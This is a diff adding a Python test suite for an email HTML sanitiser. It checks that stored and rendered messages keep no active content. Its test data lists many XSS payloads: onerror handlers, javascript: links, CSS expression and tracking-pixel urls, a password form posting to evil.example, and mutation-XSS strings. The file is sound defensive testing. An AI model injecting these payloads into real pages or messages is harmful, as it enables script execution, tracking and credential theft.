@@ -1,0 +1,198 @@
+"""No message does anything to its reader but be read."""
+
+import json
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from domain.html import from_text, render, sanitise, to_text
+from tests.support.mail_files import corpus
+
+ALLOWED = frozenset(
+    ["a", "abbr", "acronym", "address", "align", "alt", "article", "aside", "b", "bdi", "bdo", "bgcolor", "big", "blockquote", "border", "br", "caption", "cellpadding", "cellspacing", "center", "cite", "code", "col", "colgroup", "color", "colspan", "data-cid", "data-remote-src", "dd", "del", "dfn", "dir", "div", "dl", "dt", "em", "face", "figcaption", "figure", "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "height", "hr", "href", "hspace", "i", "img", "ins", "kbd", "lang", "li", "main", "mark", "nav", "nowrap", "ol", "p", "pre", "q", "rel", "rowspan", "s", "samp", "section", "size", "small", "span", "start", "strike", "strong", "style", "sub", "sup", "table", "target", "tbody", "td", "tfoot", "th", "thead", "title", "tr", "tt", "type", "u", "ul", "valign", "value", "var", "vspace", "wbr", "width"]
+)
+"""Every name, of a tag or an attribute, that may stand in the stored form."""
+
+
+class Harm(HTMLParser):
+    """Collects what in a piece of HTML could do something."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found += [name for name in (tag, *(name for name, _ in attrs)) if name not in ALLOWED]
+        for name, value in attrs:
+            if name == "href" and not re.match(r"(https?://|mailto:|tel:)", value or "", re.IGNORECASE):
+                self.found.append(f"href={value}")
+            if name == "style" and re.search(r"url|expression|@|position|behavior|\\|javascript", value or "", re.IGNORECASE):
+                self.found.append(f"style={value}")
+            if name == "data-remote-src" and not re.match(r"https?://", value or "", re.IGNORECASE):
+                self.found.append(f"data-remote-src={value}")
+
+
+def stored_and_shown(html: str) -> tuple[str, str]:
+    stored = sanitise(html)
+    return stored, render(stored, remote_content=False, cid_url=lambda _: None)
+
+
+@pytest.mark.parametrize(
+    "html", ["<script>x</script>", "<style>x</style>", "<title>x</title>", "<svg><text>x</text></svg>"]
+)
+def test_the_content_of_active_elements_goes_too(html: str) -> None:
+    assert "x" not in sanitise(html)
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<img src=x onerror="alert(1)">',
+        '<a href="javascript:alert(1)">x</a>',
+        '<a href=" java&#10;script:alert(1)">x</a>',
+        '<a href="data:text/html,x">x</a>',
+        '<a href="//evil.example/">x</a>',
+        '<form action="https://evil.example"><input name=password><button>go</button></form>',
+        '<p style="position:fixed;top:0">x</p>',
+        '<p style="background:url(https://evil.example/p.gif)">x</p>',
+        '<p style="background-color:u\\72l(https://evil.example/p.gif)">x</p>',
+        '<p style="width:expression(alert(1))">x</p>',
+        "<p id=a class=b onclick=c>x</p>",
+        '<img src="https://evil.example/p.gif" srcset="https://evil.example/q.gif 2x">',
+        '<img src="data:image/svg+xml,x">',
+        '<table background="https://evil.example/p.gif"><tr><td background="//evil.example/p.gif">x</table>',
+        '<video poster="https://evil.example/p.gif" src="https://evil.example/v"></video>',
+        '<meta http-equiv=refresh content="0;https://evil.example"><base href="https://evil.example">',
+        '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
+        '<p title="<img src=https://evil.example/p.gif onerror=alert(1)>">x</p>',
+        '<img data-remote-src="javascript:alert(1)" data-cid="x">',
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    ],
+)
+def test_nothing_that_does_something_is_stored_or_shown(html: str) -> None:
+    for result in stored_and_shown(html):
+        assert Harm(result).found == []
+
+
+def test_what_makes_a_letter_readable_stays() -> None:
+    html = '<p style="color: red; text-align: center">Dear <b>Ana</b>,<br><a href="https://x.example/?a=1&amp;b=2">x</a></p>'
+    assert sanitise(html) == (
+        '<p style="color: red; text-align: center">Dear <b>Ana</b>,<br>'
+        '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a></p>'
+    )
+
+
+def test_remote_images_are_shown_only_when_asked_for() -> None:
+    stored = sanitise('<img src="https://x.example/a.png?a=1&b=2" alt="A"><td background="http://x.example/b.png">')
+    assert " src=" not in stored
+    assert render(stored, remote_content=False, cid_url=lambda _: None) == stored
+    shown = render(stored, remote_content=True, cid_url=lambda _: None)
+    assert 'src="https://x.example/a.png?a=1&amp;b=2"' in shown
+    assert "data-remote-src" not in shown
+
+
+def test_images_within_the_message_are_shown_by_the_given_links() -> None:
+    stored = sanitise('<img src="cid:logo@example.org"><img src="CID:gone">')
+    links = {"logo@example.org": '/files/1?a=1&b="'}
+    shown = render(stored, remote_content=False, cid_url=links.get)
+    assert '<img src="/files/1?a=1&amp;b=&quot;">' in shown
+    assert 'data-cid="gone"' in shown
+
+
+def test_text_within_an_attribute_is_not_taken_for_a_tag() -> None:
+    stored = sanitise("<p title='<img data-remote-src=\"https://evil.example/p.gif\">'>x</p>")
+    shown = render(stored, remote_content=True, cid_url=lambda _: None)
+    assert "img" not in [tag for tag, _ in tags(shown)]
+
+
+def tags(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
+    found: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    class Tags(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            found.append((tag, attrs))
+
+    Tags().feed(html)
+    return found
+
+
+@pytest.mark.parametrize(
+    ("html", "text"),
+    [
+        ("<p>One\n two</p><p>Three</p>", "One two\n\nThree"),
+        ("a<br>b<br><br>c", "a\nb\n\nc"),
+        ("<div>a</div><div>b</div>", "a\nb"),
+        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
+        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
+        ("<pre>a\n  b</pre>", "a\n  b"),
+        ("<blockquote>a<blockquote>b</blockquote></blockquote>c", "> a\n>\n> > b\n\nc"),
+        ("a&nbsp;b &lt;c&gt; &amp;amp;", "a b <c> &amp;"),
+        ("<style>x</style><script>y</script>z", "z"),
+        ("no tags", "no tags"),
+        ("", ""),
+    ],
+)
+def test_html_is_written_as_plain_text(html: str, text: str) -> None:
+    assert to_text(html) == text
+
+
+def test_text_becomes_html_that_keeps_its_lines() -> None:
+    assert from_text("a <b>\n c") == '<div style="white-space: pre-wrap">a &lt;b&gt;\n c</div>'
+    assert to_text(sanitise(from_text("a <b>"))) == "a <b>"
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "x" + "<div>" * 200_000,
+        "<a " + " ".join(f"a{number}=1" for number in range(100_000)) + ">x</a>",
+        "<p>" + "".join(f"<font size={number}>" for number in range(150)) + "</p>" + "<p>x</p>" * 20_000,
+        ("<b>" * 9 + "<div>" + "</b>" * 9 + "</div>") * 8000 + "x",
+        "x" + "<" * 1_000_000,
+        "x" + "&" * 1_000_000,
+        "<td>x" * 200_000,
+    ],
+)
+@pytest.mark.timeout(10)
+def test_html_made_to_stall_a_parser_becomes_its_words(html: str) -> None:
+    assert "x" in sanitise(html)
+    assert Harm(sanitise(html)[:10_000]).found == []
+    assert "x" in to_text(html)
+
+
+hostile = st.lists(
+    st.one_of(
+        st.text(max_size=10),
+        st.sampled_from(
+            ["<img", "src=", "<img", "src='cid:x'", "onerror=a>", "<a", "href='", "javascript:", "<p", "style='color:red;", "url(", "position:fixed;", "'", '"', ">", "<!--", "-->", "<![CDATA[", "]]>", "<svg>", "<math>", "<style>", "</style>", "<script>", "</script>", "<table>", "<td", "background='", "<b>", "</b>", "<p", 'title="<img', 'src=x>">', "&#x6a;", "&lt;", "\x00", "data-remote-src='http://a'", "data-cid=x"]
+        ),
+    ),
+    max_size=30,
+).map(" ".join)
+
+
+@given(hostile)
+def test_no_html_does_anything(html: str) -> None:
+    for result in stored_and_shown(html):
+        assert Harm(result).found == []
+    assert to_text(html) is not None
+
+
+@given(st.text(alphabet=st.characters(exclude_categories=["Cc", "Cs"])))
+def test_plain_text_survives_being_html(text: str) -> None:
+    assert " ".join(to_text(from_text(text)).split()) == " ".join(text.split())
+
+
+@pytest.mark.parametrize("name", ["bleach", "dompurify", "mail-chatmail"])
+def test_no_known_attack_gets_through(name: str) -> None:
+    attacks = [json.loads(line)["html"] for line in (corpus("xss") / f"{name}.jsonl").read_text().split("\n") if line]
+    assert attacks
+    for attack in attacks:
+        for result in stored_and_shown(attack):
+            assert Harm(result).found == []
